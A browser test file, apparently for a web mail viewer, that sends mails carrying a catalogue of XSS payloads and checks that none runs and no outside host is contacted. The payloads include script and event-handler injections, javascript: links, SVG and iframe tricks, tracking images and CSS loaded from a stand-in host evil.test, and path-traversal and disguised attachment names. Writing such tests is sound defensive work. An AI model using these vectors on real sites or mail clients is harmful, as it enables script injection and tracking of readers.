// SPDX-License-Identifier: ISC
// hostile.mjs - mails that want to run a script, leave the frame, or tell somebody that they were
// read. Each is looked at in every view; nothing of it may run, and nothing may be asked for elsewhere.

import assert from "node:assert/strict";
import { once } from "node:events";
import http from "node:http";
import { api, base, eventually, mail, send, test } from "./lab.mjs";

const RUN = "window.hostileRan(1)";
const AWAY = "https://evil.test";

function html(name, body) {
	return { name, mail: { subject: name, html: body } };
}

const TABLE = [
	{ name: "markup in the subject", mail: { subject: `<script>${RUN}</script><img src=${AWAY}/s onerror="${RUN}">` } },
	{ name: "markup in the sender", mail: { subject: "sender", from: `"<img src=${AWAY}/f onerror='${RUN}'>" <"<svg/onload=alert(1)>"@evil.test>` } },
	{ name: "markup in the recipient", mail: { subject: "recipient", to: `"</span><script>${RUN}</script>" <x@evil.test>` } },
	{ name: "markup in a file's name", mail: { subject: "file", files: [
		{ name: `<img src=${AWAY}/n onerror=${RUN}>.txt`, type: "text/plain", content: "x" },
		{ name: "../../../../etc/passwd", type: "text/plain", content: "x" },
		{ name: "\u202egpj.exe", type: "image/png", content: "x" }] } },
	{ name: "markup in the text", mail: { subject: "text", text: `<script>${RUN}</script> javascript:${RUN} https://x.test/"onmouseover="${RUN}` } },
	{ name: "markup in a header", mail: { subject: "header", headers: `X-<script>${RUN}</script>: <script>${RUN}</script>\n` } },
	{ name: "a file that is a page", mail: { subject: "page file", files: [
		{ name: "page.html", type: "text/html", content: `<script>${RUN}</script>` },
		{ name: "picture.svg", type: "image/svg+xml", content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>` },
		{ name: "page.xhtml", type: "application/xhtml+xml", content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>` }] } },
	html("script", `<script>${RUN}</script><script src="${AWAY}/x.js"></script><script src="/page/page.js" onload="${RUN}"></script>`),
	html("handlers", `<img src=x onerror="${RUN}"><body onload="${RUN}"><svg/onload="${RUN}"><details open ontoggle="${RUN}">`
		+ `<input autofocus onfocus="${RUN}"><video><source onerror="${RUN}"></video><marquee onstart="${RUN}">x</marquee>`),
	html("links that are scripts", `<a id=go href="javascript:${RUN}">go</a><a href="data:text/html,<script>${RUN}</script>">d</a>`),
	html("svg", `<svg><script>${RUN}</script><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/>`
		+ `<foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject><animate onbegin="${RUN}"/></svg>`),
	html("meta", `<meta http-equiv="refresh" content="0;url=${AWAY}/meta"><meta http-equiv="Content-Security-Policy" content="script-src *">`
		+ `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`),
	html("a form", `<form id=f action="${AWAY}/form" method=post><input name=a><button id=go>go</button></form>`
		+ `<form action="/api/v1/messages" method=post><button formaction="javascript:${RUN}">x</button></form>`),
	html("a base", `<base href="${AWAY}/"><img src="based.png"><link rel=stylesheet href="based.css">`),
	html("styles that tell", `<style>@import url("${AWAY}/i.css");body{background:url(${AWAY}/bg)}input[value^=a]{background:url(${AWAY}/a)}`
		+ `@font-face{font-family:x;src:url(${AWAY}/f.woff)}p{font-family:x}</style><p style="background:url('${AWAY}/p')">x</p>`
		+ `<link rel=stylesheet href="${AWAY}/l.css"><link rel=preload as=image href="${AWAY}/pre"><link rel=prefetch href="${AWAY}/pf">`
		+ `<link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="${AWAY}">`),
	html("pictures that tell", `<img src="${AWAY}/1.gif"><img srcset="${AWAY}/2.gif 2x"><picture><source srcset="${AWAY}/3.gif"><img></picture>`
		+ `<video poster="${AWAY}/4.gif" src="${AWAY}/v.mp4" autoplay></video><audio src="${AWAY}/a.mp3" autoplay></audio>`
		+ `<table background="${AWAY}/5.gif"><tr><td>x</table><input type=image src="${AWAY}/6.gif"><object data="${AWAY}/o"></object>`
		+ `<embed src="${AWAY}/e"><img src="//evil.test/7.gif">`),
	html("frames", `<iframe src="${AWAY}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`
		+ `<iframe src="javascript:${RUN}"></iframe><iframe src="/"></iframe><frameset onload="${RUN}"><frame src="${AWAY}/fs"></frameset>`),
	html("the page around", `<a target=_top href="${AWAY}/top">top</a><a target=_parent href="${AWAY}/parent">p</a>`),
	html("UTF-7", `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`),
	html("templates", `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`
		+ `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`),
];

// Everything is looked at in one page; which mail did it is in what is seen.
class Watch {
	seen = [];
	mail = "";

	async start(context) {
		await context.exposeBinding("hostileRan", ({ frame }) => this.seen.push(`${this.mail}: ran in ${frame.url()}`));
		context.on("dialog", (dialog) => {
			this.seen.push(`${this.mail}: dialog`);
			dialog.dismiss();
		});
		elsewhere.asked = (what) => this.seen.push(`${this.mail}: asked for ${what}`);
	}
}

// Another origin that notes who comes.
const elsewhere = http.createServer((request, response) => {
	elsewhere.asked(request.url);
	response.writeHead(200, { "Content-Type": "text/html" });
	response.end(`<script>${RUN}</script>`);
});
elsewhere.on("connection", () => elsewhere.asked("a connection"));
elsewhere.listen(0, "127.0.0.1").unref();
await once(elsewhere, "listening");

function table() {
	const away = `http://127.0.0.1:${elsewhere.address().port}`;
	return JSON.parse(JSON.stringify(TABLE).replaceAll(AWAY, away).replaceAll("//evil.test", away.slice("http:".length)));
}

function view(screen) {
	return screen.page.frames().find((frame) => frame !== screen.page.mainFrame() && /\/view\//.test(frame.url()));
}

// Every tab in turn, the HTML last; in the page itself, for there are many.
async function lookAtAll(screen) {
	const hasFrame = await screen.page.evaluate(async () => {
		for (const tab of document.querySelectorAll(".reading [role=tab]")) {
			const panel = document.getElementById(tab.getAttribute("aria-controls"));
			tab.click();
			while (panel.childElementCount === 0 || panel.textContent === "Loading")
				await new Promise(requestAnimationFrame);
		}
		document.getElementById("tab-html")?.click();
		return document.getElementById("tab-html") !== null;
	});
	if (hasFrame)
		await (await eventually(() => view(screen), "the frame is there")).waitForLoadState("load");
}

// It would be noticed.
test("hostile: a script that runs is seen", {}, async (screen, context) => {
	const watch = new Watch();
	await watch.start(context);
	await screen.page.goto(`http://127.0.0.1:${elsewhere.address().port}/it`);
	await eventually(() => watch.seen.length >= 3, "it ran and was asked for");
	assert.match(watch.seen.join(), /ran in/);
	assert.match(watch.seen.join(), /asked for \/it/);
});

test("hostile: mails in every view", {}, async (screen, context) => {
	const watch = new Watch(), mails = table();
	await watch.start(context);
	await send(...mails.map(({ mail: parts }) => mail(parts)));
	await screen.open();
	await eventually(async () => (await screen.text("#tools")).startsWith(`${mails.length} messages`), "all are there");
	await screen.press("End");
	for (const { name } of mails) {
		watch.mail = name;
		await eventually(async () => await screen.page.locator("#reading:not([aria-busy]) .mail-subject").count() === 1,
			`${name} is open`);
		await lookAtAll(screen);
		assert.equal(await screen.page.locator(".reading script, .mail-head img, .row script, .row img, .row b").count(), 0, name);
		await screen.page.locator("#list").focus();
		const url = screen.page.url();
		await screen.press("k");
		if (name !== mails.at(-1).name)
			await eventually(() => screen.page.url() !== url, `there is one after ${name}`);
	}
	assert.deepEqual(watch.seen, []);
	assert.equal(new URL(screen.page.url()).origin, new URL(base).origin);
});

test("hostile: what is clicked stays harmless", {}, async (screen, context) => {
	const watch = new Watch(), clicked = table().filter(({ mail: parts }) => /id=go/.test(parts.html));
	await watch.start(context);
	assert.equal(clicked.length, 2);
	await send(...clicked.map(({ mail: parts }) => mail(parts)));
	await screen.open();
	for (const { name, mail: parts } of clicked) {
		watch.mail = name;
		await screen.read(parts.subject);
		await screen.tab("HTML");
		const frame = await eventually(() => view(screen), "the frame is there");
		await frame.locator("#go").click();
		await screen.tab("Raw");
		await screen.page.locator("#panel-raw pre").waitFor();
	}
	assert.deepEqual(watch.seen, []);
	assert.equal(new URL(screen.page.url()).origin, new URL(base).origin);
});

test("hostile: mails and files opened by themselves", {}, async (screen, context) => {
	const watch = new Watch();
	await watch.start(context);
	await send(...table().map(({ mail: parts }) => mail(parts)));
	const { messages } = await (await api("api/v1/messages?limit=100")).json();
	assert.equal(messages.length, TABLE.length);
	for (const { ID, Subject } of messages) {
		watch.mail = Subject;
		const whole = await (await api(`api/v1/message/${ID}`)).json();
		const files = whole.Attachments.map(({ PartID }) => `api/v1/message/${ID}/part/${PartID}`);
		for (const path of [...whole.HTML ? [`view/${ID}.html`] : [], ...files]) {
			const answer = await api(path);
			assert.equal(answer.headers.get("x-content-type-options"), "nosniff", path);
			assert.match(answer.headers.get("content-security-policy") ?? "", /sandbox/, path);
			// A file is a download, of which the browser says so by an error.
			await screen.page.goto(new URL(path, base).href).catch(() => {});
			assert.equal(new URL(await screen.page.evaluate(() => location.href), base).origin.replace("null", new URL(base).origin),
				new URL(base).origin);
		}
	}
	assert.deepEqual(watch.seen, []);
});

test("remote images and styles are loaded when one asks", {}, async (screen, context) => {
	const watch = new Watch(), away = `http://127.0.0.1:${elsewhere.address().port}`;
	await watch.start(context);
	await send({ subject: "Pictures", html: `<link rel=stylesheet href="${away}/a.css"><img src="${away}/1.gif"><script>${RUN}</script><p>Words</p>` });
	await screen.open();
	await screen.read("Pictures");
	await screen.frame.getByText("Words").waitFor();
	assert.deepEqual(watch.seen, []);
	await screen.page.getByRole("button", { name: "Load images" }).click();
	await eventually(() => watch.seen.filter((what) => !/a connection/.test(what)).length >= 2, "they are asked for");
	assert.deepEqual(watch.seen.filter((what) => !/a connection/.test(what)).sort(),
		[": asked for /1.gif", ": asked for /a.css"]);
});
